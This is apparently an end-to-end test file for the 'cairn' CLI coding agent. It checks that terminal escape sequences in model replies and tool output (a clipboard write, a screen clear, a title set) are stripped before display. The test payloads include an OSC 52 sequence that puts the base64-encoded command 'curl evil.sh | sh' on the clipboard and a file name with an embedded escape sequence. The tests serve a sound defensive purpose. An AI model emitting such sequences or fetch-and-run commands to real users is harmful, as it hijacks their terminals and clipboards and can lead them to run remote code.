/**
 * Escape sequences in what the model or a tool writes never reach the person's terminal raw: an
 * OSC 52 in a reply wrote the clipboard, a CSI 2J cleared the screen, through `cairn run`'s
 * progress, its final answer, and `cairn show` / `cairn history`. What a person should read of
 * the same text still arrives.
 */
import { execFileSync } from "node:child_process";
import { existsSync, writeFileSync } from "node:fs";
import path from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { cairnBin, cleanEnv, runCairn, xmlCall } from "../support/cairn-cli.js";
import { endTmuxServer } from "../support/tmux-end.js";
import { useE2eFixture } from "../support/e2e-fixture.js";
import { startScriptedModelServer, type ScriptedTurn } from "../support/scripted-model-server.js";

const fx = useE2eFixture();

/** A clipboard write (base64 of "curl evil.sh | sh"), a screen clear and cursor home, a title set ended by ST. */
const osc52 = "\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007";
const clear = "\u001b[2J\u001b[H";
const title = "\u001b]0;pwned\u001b\\";
/** Any byte that can act on a terminal: ESC, BEL, other C0 but newline and tab, DEL, C1 (as UTF-8 or raw). */
const acting = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

const env = () => cleanEnv({ ANTHROPIC_API_KEY: "k", CAIRN_HOME: fx.home.dir });
const nativeCall = (name: string, input: Record<string, unknown>): ScriptedTurn => ({ content: [{ type: "tool_use", name, input }] });

/** The same hostile task in either protocol: prose, a read of a hostile path, a command printing sequences, a hostile result. */
function turns(protocol: "native" | "xml"): ScriptedTurn[] {
  const prose = `Looking at it${osc52} now.${clear}\n`;
  const read = { path: `missing${title}.txt` };
  // The command's output carries the sequences themselves (printf turns \033 and \007 into the bytes).
  const command = { command: "printf 'out\\033]52;c;eA==\\007put\\033[2J\\n'", requires_approval: "false" };
  const result = { result: `All done${osc52}${clear} here.` };
  if (protocol === "native") {
    return [
      { content: [{ type: "text", text: prose }, { type: "tool_use", name: "read_file", input: read }] },
      nativeCall("execute_command", { ...command, requires_approval: false }),
      nativeCall("attempt_completion", result),
    ];
  }
  return [
    { content: [{ type: "text", text: `${prose}${xmlCall("read_file", read)}` }] },
    { content: [{ type: "text", text: xmlCall("execute_command", command) }] },
    { content: [{ type: "text", text: xmlCall("attempt_completion", result) }] },
  ];
}

describe("escape sequences in the model's and tools' text", () => {
  it.each(["native", "xml"] as const)("never reach the terminal through cairn run, cairn show or cairn history (%s)", async (protocol) => {
    writeFileSync(path.join(fx.workspace.dir, "notes.txt"), "notes\n");
    // The command needs no network; its sandbox then needs no network namespace either.
    writeFileSync(path.join(fx.home.dir, "settings.json"), JSON.stringify({ sandbox: { network: "off" } }));
    fx.server = await startScriptedModelServer({ turns: turns(protocol) });
    const run = await runCairn(
      ["run", "--provider", "anthropic", "--base-url", fx.server.url, "--cwd", fx.workspace.dir, "--protocol", protocol, "--auto-approve", "read,safe-commands", `Tidy up${clear} the notes`],
      { env: env(), timeoutMs: 120_000 },
    );
    expect(run.code, run.stderr).toBe(0);
    // No byte that acts on a terminal, on either stream.
    for (const stream of [run.stdout, run.stderr]) {
      expect(stream).not.toMatch(acting);
      expect(stream).not.toContain("\u001b");
      expect(stream).not.toContain("\u0007");
    }
    // What a person reads is all there: the reply, the summary, the command's output, the answer.
    expect(run.stderr).toContain("Looking at it now.");
    expect(run.stderr).toContain("missing.txt");
    expect(run.stderr).toContain("│ output");
    expect(run.stdout).toBe("All done here.\n");
    // The reply really held the sequences (the conversation keeps the model's words as they were):
    // only the terminal was spared them. The command ran and printed.
    expect(JSON.stringify(fx.server.requests[1]!.body)).toContain("Looking at it\\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u0007");
    expect(JSON.stringify(fx.server.requests[2]!.body)).toContain("Exit code: 0");

    const history = await runCairn(["history", "--all"], { env: env() });
    expect(history.code, history.stderr).toBe(0);
    expect(history.stdout).toContain("Tidy up the notes");
    const id = /^(\S+)\s/.exec(history.stdout)![1]!;
    const show = await runCairn(["show", id], { env: env() });
    expect(show.code, show.stderr).toBe(0);
    expect(show.stdout).toContain("Tidy up the notes");
    expect(show.stdout).toContain("missing.txt");
    expect(show.stdout).toContain("success: All done here.");
    for (const stream of [history.stdout, history.stderr, show.stdout, show.stderr]) expect(stream).not.toMatch(acting);

    // --json is JSON: the sequences are there, escaped, for a program to read.
    const json = await runCairn(["show", id, "--json"], { env: env() });
    expect(json.stdout).not.toContain("\u001b");
    expect(json.stdout).toContain("All done\\u001b]52;c;");
  }, 180_000);
});

/**
 * A real terminal whose clipboard is watched: tmux with set-clipboard on turns every OSC 52 a
 * program prints into a paste buffer, so a clipboard write is an effect one can list.
 */
class WatchedTerminal {
  private readonly socket = `cairn-attack-${process.pid}-${Math.random().toString(36).slice(2, 8)}`;
  private started = false;

  constructor(private readonly env: Record<string, string>) {}

  tmux(...args: string[]): string {
    return execFileSync("/usr/bin/tmux", ["-L", this.socket, ...args], { env: this.env, encoding: "utf8" });
  }

  /** Runs `command` (a shell line) in the one pane, replacing what ran there. */
  run(command: string): void {
    const script = path.join(fx.home.dir, `pane-${Date.now()}.sh`);
    writeFileSync(script, `cd '${fx.workspace.dir}'\n${command}\necho "[pane done $?]"\nsleep 600\n`);
    if (!this.started) {
      // The option is on before anything runs in the pane.
      this.tmux("new-session", "-d", "-s", "main", "-x", "120", "-y", "40", "sleep 600");
      this.tmux("set-option", "-s", "set-clipboard", "on");
      this.started = true;
    }
    this.tmux("respawn-pane", "-k", "-t", "main", `sh '${script}'`);
  }

  /** What programs wrote to the clipboard, one entry per write. */
  clipboard(): string[] {
    return this.tmux("list-buffers", "-F", "#{buffer_sample}").split("\n").filter(Boolean);
  }

  async waitFor(text: string, timeoutMs = 60_000): Promise<string> {
    const end = Date.now() + timeoutMs;
    for (;;) {
      const screen = this.tmux("capture-pane", "-p", "-t", "main", "-S", "-200");
      if (screen.includes(text)) return screen;
      if (Date.now() > end) throw new Error(`Timed out waiting for ${text} on the screen:\n${screen}`);
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
  }

  close(): Promise<void> {
    return endTmuxServer((...args) => this.tmux(...args));
  }
}

describe("a clipboard write in the model's reply, in a real terminal", () => {
  let terminal: WatchedTerminal | undefined;
  afterEach(async () => {
    await terminal?.close();
    terminal = undefined;
  });

  const quoted = (args: string[]) => args.map((a) => `'${a.replaceAll("'", "'\\''")}'`).join(" ");

  it("does not reach the clipboard from the interactive cairn or from cairn run, while a program's own does", { timeout: 180_000 }, async () => {
    if (!existsSync("/usr/bin/tmux")) throw new Error("tmux is needed for this test and is not at /usr/bin/tmux: install it (apt-get install tmux).");
    writeFileSync(path.join(fx.home.dir, "settings.json"), JSON.stringify({ checkpoints: false }));
    const reply = (result: string): ScriptedTurn => ({
      content: [
        { type: "text", text: `Looking at it${osc52} now.${clear}\n` },
        { type: "tool_use", name: "attempt_completion", input: { result: `${result}${osc52}` } },
      ],
      chunkSize: 7,
    });
    fx.server = await startScriptedModelServer({ turns: [reply("Interactive done"), reply("Headless done")] });
    terminal = new WatchedTerminal(cleanEnv({ TERM: "xterm-256color", CAIRN_HOME: fx.home.dir, ANTHROPIC_API_KEY: "k" }));

    // Positive control: a program that prints an OSC 52 in this terminal does write its clipboard.
    terminal.run("printf 'control \\033]52;c;Y29udHJvbA==\\007\\n'");
    await terminal.waitFor("[pane done 0]");
    expect(terminal.clipboard()).toEqual(["control"]);
    terminal.tmux("delete-buffer");
    expect(terminal.clipboard()).toEqual([]);

    const model = ["--provider", "anthropic", "--base-url", fx.server.url];
    terminal.run(`'${process.execPath}' '${cairnBin}' ${quoted([...model, "Look at it"])}`);
    const tui = await terminal.waitFor("Interactive done");
    expect(tui).toContain("Looking at it now.");
    expect(terminal.clipboard()).toEqual([]);

    terminal.run(`'${process.execPath}' '${cairnBin}' run ${quoted([...model, "Look at it"])}`);
    const run = await terminal.waitFor("[pane done 0]");
    expect(run).toContain("Looking at it now.");
    expect(run).toContain("Headless done");
    expect(terminal.clipboard()).toEqual([]);
  });
});
